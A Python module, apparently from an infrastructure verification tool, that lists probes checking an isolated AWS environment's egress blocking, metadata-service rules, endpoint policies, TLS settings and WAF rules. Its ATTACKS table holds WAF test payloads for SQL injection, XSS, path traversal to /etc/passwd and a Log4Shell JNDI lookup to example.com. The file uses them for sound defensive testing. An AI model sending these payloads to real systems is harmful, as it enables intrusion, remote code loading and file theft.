"""What is probed from where, as data: the world outside from everywhere, and each service from what may reach it.

Sources: EC2 User Guide, "Use IMDSv2"; VPC PrivateLink guide, "Gateway endpoints for Amazon S3"; WAF Developer Guide,
"AWS Managed Rules rule groups list"; CodeDeploy User Guide, "Resource kit reference"; Systems Manager User Guide,
"Manually installing SSM Agent".
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import Any, NamedTuple, Optional

from airgap.model import edge, mirror
from airgap.model.components import kind
from airgap.model.derived import endpoint_services
from airgap.model.intent import Intent
from airgap.model.probes import ANSWERED, BUCKET, CACHE, DATABASE, ENTRY, METADATA, NETWORK, REFUSED, REGISTRY

ABROAD = {4: "1.1.1.1", 6: "2606:4700:4700::1111"}
RESOLVER = "8.8.8.8"
STRANGER = "example.com"
"""Addresses and a name of the world outside that answer everybody: a refusal is the network's."""
IMDS = "169.254.169.254"
RDS, SYSTEM, OTHERS = "rds", "", "others"
"""Authorities that a probe trusts: RDS's of the Region, the host's own, and some that signed nothing here."""
HTTPS = 443
OWNED, FOREIGN = "amazon-ssm-{region}", "aws-codedeploy-{region}"
"""Buckets that anybody may read: one that the endpoint policy admits by name, and one that it does not.

Since everybody may read both, the endpoint alone can refuse."""
VERSIONED = "/latest/VERSION"
NEWEST_TLS = "ELBSecurityPolicy-TLS13-1-3-"
"""How the names of Elastic Load Balancing's policies begin that speak TLS 1.3 alone."""
ATTACKS: Mapping[str, tuple[str, str, Mapping[str, str]]] = {
    "sql-injection": ("AWSManagedRulesSQLiRuleSet", "?id=1%27%20OR%20%271%27%3D%271%27%20--%20", {}),
    "cross-site-scripting": ("AWSManagedRulesCommonRuleSet", "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {}),
    "traversal": ("AWSManagedRulesCommonRuleSet", "?file=../../../../etc/passwd", {}),
    "log4shell": ("AWSManagedRulesKnownBadInputsRuleSet", "", {"User-Agent": "${jndi:ldap://example.com/a}"}),
}
"""Each attack with the rule group of WAF that blocks it, its query and its headers."""


class Endpoint(NamedTuple):
    """Where a service of the environment is reached; ``name`` is the name that its certificate bears."""

    name: str
    port: int


class Image(NamedTuple):
    """An image of the environment's registry, by digest."""

    repository: str
    digest: str


class Places(NamedTuple):
    """What a run has recorded of where services stand; None is not probed."""

    database: Optional[Endpoint] = None
    cache: Optional[Endpoint] = None
    entry: Optional[Endpoint] = None
    image: Optional[Image] = None
    roles: Mapping[str, str] = {}
    """What each instance is, by its id: ``host`` (the operations host), ``node`` or ``instance``."""


NOWHERE = Places()


def probes_of(intent: Intent, role: str = "machine", places: Places = NOWHERE) -> list[dict[str, Any]]:
    """Return every probe that is made from a host of a role, controls first; ``wants`` says what must come of it."""
    found = [one for group in ROLES[role] for one in group(intent, places, role)]
    return sorted(found, key=lambda one: (one["wants"] != ANSWERED, one["name"]))


def role_of(host: str, places: Places = NOWHERE) -> str:
    """Return the role of a host by its address: what a run has recorded of it, else what its backend tells."""
    backend, _, name = host.partition("://")
    if (backend, name) == ("local", "client"):
        return "client"
    if backend == "netns":
        last = name.rpartition(".")[2]
        return "pod" if last.startswith("pod-") else places.roles.get(last, "machine")
    return places.roles.get(name, "instance") if backend == "ssm" else {"kubectl": "pod"}.get(backend, "machine")


def endpoint_names(intent: Intent) -> list[str]:
    """Return the names at which the interface endpoints of an environment answer inside it."""
    own = {"ecr.api": "api.ecr", "ecr.dkr": f"{intent.account}.dkr.ecr", "oidc-eks": "oidc.eks"}
    services = sorted(one for one in endpoint_services(intent) if kind(one) == "interface")
    return [f"{own.get(one, one)}.{intent.region}.{_suffix(intent)}" for one in services]


def _suffix(intent: Intent) -> str:
    return "amazonaws.com.cn" if intent.partition == "aws-cn" else "amazonaws.com"


def _probe(about: str, name: str, kind: str, wants: str, control: str = "", **more: Any) -> dict[str, Any]:
    return {"name": name, "about": about, "kind": kind, "wants": wants, "control": control, **more}


def _network(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    """Yield what tries the world outside, by packets and by names, beside the endpoints that must answer."""
    names = endpoint_names(intent)
    first = names[0] if names else ""
    by_connection, by_name = f"endpoint-{first}", "resolver-own-name"
    for name in names:
        yield _probe(NETWORK, f"endpoint-{name}", "tcp", ANSWERED, to=name, port=HTTPS)
    yield _probe(NETWORK, by_name, "dns", ANSWERED, ask=first)
    for name, port in (("internet-tcp", HTTPS), ("internet-tcp-plain", 80), ("internet-ssh", 22)):
        yield _probe(NETWORK, name, "tcp", REFUSED, by_connection, to=ABROAD[4], port=port)
    yield _probe(NETWORK, "internet-tcp-ipv6", "tcp", REFUSED, "loopback-ipv6", to=ABROAD[6], port=HTTPS)
    yield _probe(NETWORK, "internet-icmp", "icmp", REFUSED, "loopback-icmp", to=ABROAD[4])
    yield _probe(NETWORK, "foreign-resolver", "udp", REFUSED, by_name, to=RESOLVER, port=53, ask=STRANGER)
    yield _probe(NETWORK, "resolver-foreign-name", "dns", REFUSED, by_name, ask=STRANGER)
    yield _probe(NETWORK, "loopback-icmp", "icmp", ANSWERED, to="127.0.0.1")
    yield _probe(NETWORK, "loopback-ipv6", "icmp", ANSWERED, to="::1")


def _metadata(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    """Yield what asks for an instance's credentials: its own system by the second version alone, a pod not at all."""
    where: dict[str, Any] = {"to": IMDS, "port": 80}
    if role != "pod":
        yield _probe(METADATA, "metadata-second-version", "metadata", ANSWERED, **where)
        yield _probe(METADATA, "metadata-first-version", "metadata", REFUSED, "metadata-second-version", version=1,
                     **where)  # fmt: skip
        return
    control = f"endpoint-{endpoint_names(intent)[0]}" if endpoint_names(intent) else ""
    yield _probe(METADATA, "pod-metadata-second-version", "metadata", REFUSED, control, **where)
    yield _probe(METADATA, "pod-metadata-first-version", "metadata", REFUSED, control, version=1, **where)


def _bucket(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    """Yield two buckets that anybody may read, where the policy of the endpoint before them admits only one."""
    if "session-manager" not in intent.components or "s3" not in endpoint_services(intent):
        return
    for name, wants, control, of in (
        ("bucket-admitted", ANSWERED, "", OWNED), ("bucket-foreign", REFUSED, "bucket-admitted", FOREIGN),
    ):  # fmt: skip
        host = f"{of.format(region=intent.region)}.s3.{intent.region}.{_suffix(intent)}"
        yield _probe(BUCKET, name, "http", wants, control, to=host, port=HTTPS, path=VERSIONED)


def _stores(about: str, place: Endpoint, authority: str, plain: str, **more: Any) -> Iterator[dict[str, Any]]:
    """Yield a verified handshake, beside which plain text, another name and other authorities must be refused."""
    control = f"{about}-tls"
    there: dict[str, Any] = {"to": place.name, "port": place.port}
    secure = {**there, "authority": authority, **more}
    yield _probe(about, control, "tls", ANSWERED, **secure)
    yield _probe(about, f"{about}-plain-text", "plain", REFUSED, control, speaks=plain, **there)
    yield _probe(about, f"{about}-wrong-host", "tls", REFUSED, control, server=f"not-{place.name}", **secure)
    yield _probe(about, f"{about}-wrong-authority", "tls", REFUSED, control, **{**secure, "authority": OTHERS})


def _database(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    if places.database is not None:
        yield from _stores(DATABASE, places.database, RDS, "postgres", starts="postgres")


def _cache(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    if places.cache is not None:
        yield from _stores(CACHE, places.cache, SYSTEM, "redis")
        there: dict[str, Any] = {"to": places.cache.name, "port": places.cache.port}
        yield _probe(CACHE, "cache-without-password", "tls", REFUSED, "cache-tls", says="PING\r\n", hears="+PONG",
                     **there)  # fmt: skip


def _entry(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    """Yield what a client sends to the application's entry; only clients are let in where plain text is turned away."""
    if places.entry is None:
        return
    control, path = "entry-https", intent.edge.health_path
    there: dict[str, Any] = {"to": places.entry.name, "port": places.entry.port, "server": intent.edge.domain}
    yield _probe(ENTRY, control, "http", ANSWERED, path=path, **there)
    newest = intent.edge.tls_policy.startswith(NEWEST_TLS)
    spoken = control if newest else "entry-tls-1.2"
    if not newest:
        yield _probe(ENTRY, spoken, "hello", ANSWERED, version="1.2", **there)
    for version in ("1.0", "1.1", "1.2") if newest else ("1.0", "1.1"):
        yield _probe(ENTRY, f"entry-tls-{version}", "hello", REFUSED, spoken, version=version, **there)
    if role == "client":
        clear = {**there, "port": edge.REDIRECT, "clear": True}
        yield _probe(ENTRY, "entry-plain-text", "http", REFUSED, control, path=path, **clear)
    for name, (group, query, headers) in ATTACKS.items():
        if group in edge.MANAGED:
            yield _probe(ENTRY, f"entry-{name}", "http", REFUSED, control, path=path + query, headers=dict(headers),
                         **there)  # fmt: skip


def _registry(intent: Intent, places: Places, role: str) -> Iterator[dict[str, Any]]:
    """Yield a pull by digest with the node's own credentials, beside one without a token and one of no such digest."""
    if places.image is None:
        return
    there: dict[str, Any] = {"to": mirror.registry(intent), "port": HTTPS, "repository": places.image.repository,
                             "region": intent.region, "suffix": _suffix(intent)}  # fmt: skip
    own, control = {"digest": places.image.digest}, "registry-pull"
    yield _probe(REGISTRY, control, "pull", ANSWERED, token="ecr", **there, **own)
    yield _probe(REGISTRY, "registry-without-token", "pull", REFUSED, control, **there, **own)
    yield _probe(REGISTRY, "registry-other-digest", "pull", REFUSED, control, token="ecr", digest=f"sha256:{'0' * 64}",
                 **there)  # fmt: skip


Group = Callable[[Intent, Places, str], Iterator[dict[str, Any]]]
ROLES: Mapping[str, tuple[Group, ...]] = {
    "machine": (_network,),
    "instance": (_network, _metadata, _bucket),
    "host": (_network, _metadata, _bucket, _database, _entry),
    "node": (_network, _metadata, _bucket, _database, _cache, _registry),
    "pod": (_network, _metadata, _bucket, _database, _cache),
    "client": (_entry,),
}
"""What is probed from hosts of each role, as security groups let it: nodes and pods reach the cache, the operations
host the entry; a client stands outside."""
